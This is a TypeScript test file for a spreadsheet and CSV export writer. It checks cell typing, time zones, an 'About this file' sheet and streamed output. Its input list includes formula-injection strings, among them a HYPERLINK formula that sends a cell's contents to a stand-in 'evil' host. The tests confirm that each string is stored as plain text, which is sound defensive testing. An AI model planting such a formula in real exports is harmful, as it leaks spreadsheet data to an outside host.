import fc from 'fast-check'
import { expect, test } from 'vitest'
import { sheetsOf, timeOfSheet } from '#testing/spreadsheet.ts'
import { tableWriter, wholeTable, type SheetCell } from './table-file.ts'

const heads = [{ label: 'Number' }, { label: 'When', isTime: true }, { label: 'What' }]
const sheet = (rows: SheetCell[][], about: string[] = [], zone = 'America/New_York') =>
  sheetsOf(wholeTable(tableWriter('xlsx', heads, zone), rows, about))
const only = (cell: SheetCell) => sheet([[cell]])[0]!.rows[1]?.[0]

test.each([
  '=1+1',
  '=HYPERLINK("http://evil?"&A1)',
  '+1',
  '-2',
  '@SUM(1)',
  '＝1',
  '\t=1',
  '123456789012345678',
  '000012345',
  '02115',
  '1932102084',
  '0002-1433-80',
  '1E5',
  '3/4',
  'MARCH1',
  'TRUE',
  ' leading and trailing ',
  'two\nlines\tand a tab',
  '<b>&"\'</b>',
  'José 山田 👍🏽',
  '_x0041_ is not A',
  'bell \u0007 and \u0000',
])('the text %j is that text in a spreadsheet: no formula, no number, no date', (text) => {
  expect(only(text)).toEqual({ kind: 'text', value: text, look: 1 })
})

// A file takes as long as a hundred of its rows: many values share one.
test('any text comes back as it was', () =>
  fc.assert(
    fc.property(
      fc.array(fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }), { minLength: 40, maxLength: 40 }),
      (texts) => {
        const kept = texts.map((text) => text.toWellFormed().replaceAll('\r\n', '\n'))
        const [data] = sheet(texts.map((text) => [text]))
        expect(data!.rows.slice(1).map(([cell]) => cell?.value)).toEqual(kept)
      },
    ),
    { numRuns: 5 },
  ))

test('amounts are numbers, days and times are those of a spreadsheet, in the zone the heading names', () => {
  const [data] = sheet([
    [-142.6, { at: '2026-01-05T16:27:31.000Z' }, { day: '1980-02-03' }],
    [0, { at: '2026-07-05T16:27:00.000Z' }, null],
    [null, { at: '2026-11-01T05:30:00.000Z' }, ''],
  ])
  expect(data!.rows[0]!.map((cell) => cell?.value)).toEqual(['Number', 'When (America/New_York)', 'What'])
  expect(data!.rows[1]![0]).toEqual({ kind: 'number', value: '-142.6', look: 0 })
  expect(data!.rows[1]![1]!.look).toBe(4)
  expect(data!.rows.slice(1).map((row) => timeOfSheet(row[1]!.value))).toEqual([
    '2026-01-05T11:27',
    '2026-07-05T12:27',
    '2026-11-01T01:30',
  ])
  expect([data!.rows[1]![2]!.look, timeOfSheet(data!.rows[1]![2]!.value)]).toEqual([3, '1980-02-03T00:00'])
  expect([data!.rows[2]![0]!.value, data!.rows[2]![2], data!.rows[3]![0]]).toEqual(['0', undefined, undefined])
})

test('an instant of any zone and year is shown to the minute as its clocks had it', () =>
  fc.assert(
    fc.property(
      fc.array(fc.date({ min: new Date('1970-01-01'), max: new Date('2100-01-01'), noInvalidDate: true }), {
        minLength: 20,
        maxLength: 20,
      }),
      (dates) => {
        for (const zone of ['America/New_York', 'America/Phoenix', 'Pacific/Honolulu', 'Pacific/Guam', 'UTC']) {
          const words = new Intl.DateTimeFormat('sv-SE', { timeZone: zone, dateStyle: 'short', timeStyle: 'short' })
          const rows = dates.map((date): SheetCell[] => ['', { at: date.toISOString() }])
          const [data] = sheet(rows, [], zone)
          const shown = data!.rows.slice(1).map((row) => timeOfSheet(row[1]!.value))
          expect(shown).toEqual(dates.map((date) => words.format(date).replace(' ', 'T')))
        }
      },
    ),
    { numRuns: 2 },
  ))

test('one record is one row, and what the file is of stands on a sheet of its own', () => {
  const [data, about] = sheet([['a'], ['b']], ['Exported by Dana.', '=1+1'])
  expect([data!.name, data!.rows.length]).toEqual(['Data', 3])
  expect([about!.name, about!.rows.map((row) => row[0])]).toEqual([
    'About this file',
    [
      { kind: 'text', value: 'Exported by Dana.', look: 1 },
      { kind: 'text', value: '=1+1', look: 1 },
    ],
  ])
})

test('a long table leaves a part at a time: nothing of it is kept', () => {
  const table = tableWriter('xlsx', heads, 'UTC')
  const part = (from: number): SheetCell[][] =>
    Array.from({ length: 1000 }, (_, at) => [
      String(1e17 + from + at),
      { at: '2026-01-05T16:27:00.000Z' },
      `row ${from + at}`,
    ])
  const pieces = [table.head()]
  for (let from = 0; from < 40_000; from += 1000) pieces.push(table.rows(part(from)))
  pieces.push(table.end(['end']))
  // No part waits for a later one: the largest is a small share of all.
  const sizes = pieces.map((piece) => piece.length)
  const all = sizes.reduce((sum, size) => sum + size, 0)
  expect(Math.max(...sizes)).toBeLessThan(all / 10)
  const file = Buffer.concat(pieces.map((piece) => Buffer.from(piece)))
  const [data] = sheetsOf(file)
  expect([data!.rows.length, data!.rows.at(-1)![0]!.value, data!.rows.at(-1)![2]!.value]).toEqual([
    40_001,
    String(1e17 + 39_999),
    'row 39999',
  ])
})

test('a CSV of the same table has its days and times in words', () => {
  const csv = new TextDecoder().decode(
    wholeTable(
      tableWriter('csv', heads, 'America/New_York'),
      [['007', { at: '2026-01-05T16:27:31.000Z' }, { day: '1980-02-03' }]],
      ['end'],
    ),
  )
  expect(csv.split('\r\n').slice(0, 2)).toEqual([
    '"Number","When","What"',
    '"007","01/05/2026 11:27 AM EST","02/03/1980"',
  ])
})
